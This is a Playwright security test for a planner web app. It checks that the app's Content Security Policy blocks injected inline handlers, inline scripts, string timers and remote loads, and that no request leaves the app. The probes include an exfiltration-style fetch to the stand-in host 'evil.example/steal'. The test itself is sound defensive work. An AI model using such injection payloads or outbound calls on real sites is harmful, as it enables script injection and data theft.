/**
 * Checklist items 1 and 7 in a real Chromium: the built renderer behind the shell's CSP header.
 * Every request leaving the app origin is aborted and counted (target 0), then the page is made
 * to try seven classic injections; none may run and the CSP must report each one it blocked.
 */
import { test, expect, screenshotPath } from './fixtures';
import { PlannerPage } from './page-models/planner-page';

declare global {
  interface Window {
    __executed: number;
    __cspViolations: string[];
  }
}

test('CSP blocks injected script and data loads; no request leaves the app', async ({
  page,
  shell,
}) => {
  const origin = new URL(shell.url).origin;
  const crossOrigin: string[] = [];
  await page.route('**/*', async (route) => {
    const url = route.request().url();
    if (url.startsWith('data:') || new URL(url).origin === origin) return route.continue();
    crossOrigin.push(url);
    return route.abort();
  });
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.addInitScript(() => {
    window.__executed = 0;
    window.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__cspViolations.push(`${e.violatedDirective} ${e.blockedURI}`);
    });
  });

  const planner = new PlannerPage(page);
  await planner.open(shell.url);
  expect(crossOrigin).toEqual([]); // the app itself needs nothing from outside

  const outcomes = await page.evaluate(async () => {
    const results: Record<string, string> = {};
    const host = document.createElement('div');
    document.body.append(host);
    host.innerHTML = '<img src="x-missing.png" onerror="window.__executed++">';
    const s = document.createElement('script');
    s.textContent = 'window.__executed++';
    document.body.append(s);
    // eval and new Function called from page.evaluate itself run with DevTools privileges and
    // skip CSP, so the eval probes go through the page's own timer (a string is an eval sink).
    window.setTimeout('window.__executed++', 0);
    window.setInterval('window.__executed++; ', 10_000);
    results.eval = typeof window.setTimeout;
    const img = document.createElement('img');
    img.src = 'https://evil.example/pixel.png';
    document.body.append(img);
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
    try {
      await fetch('https://evil.example/steal');
      results.fetch = 'sent';
    } catch (e) {
      results.fetch = (e as Error).name;
    }
    await new Promise((r) => setTimeout(r, 500));
    return results;
  });

  const executed = await page.evaluate(() => window.__executed);
  const violations = await page.evaluate(() => window.__cspViolations);
  console.info(
    `[csp] ${JSON.stringify({ executed, violations: violations.length, crossOrigin: crossOrigin.length, outcomes })}`,
  );
  expect(executed).toBe(0);
  expect(outcomes.fetch).toBe('TypeError');
  // inline handler, inline script, 2 string timers (eval), remote img, iframe, fetch
  expect(violations.length).toBeGreaterThanOrEqual(6);
  expect(violations.some((v) => v.startsWith('script-src'))).toBe(true);
  expect(violations.some((v) => v.startsWith('img-src'))).toBe(true);
  expect(violations.some((v) => v.startsWith('connect-src'))).toBe(true);
  expect(crossOrigin).toEqual([]);
  expect(dialogs).toEqual([]);
  await page.screenshot({ path: screenshotPath('csp-after-injection') });
});
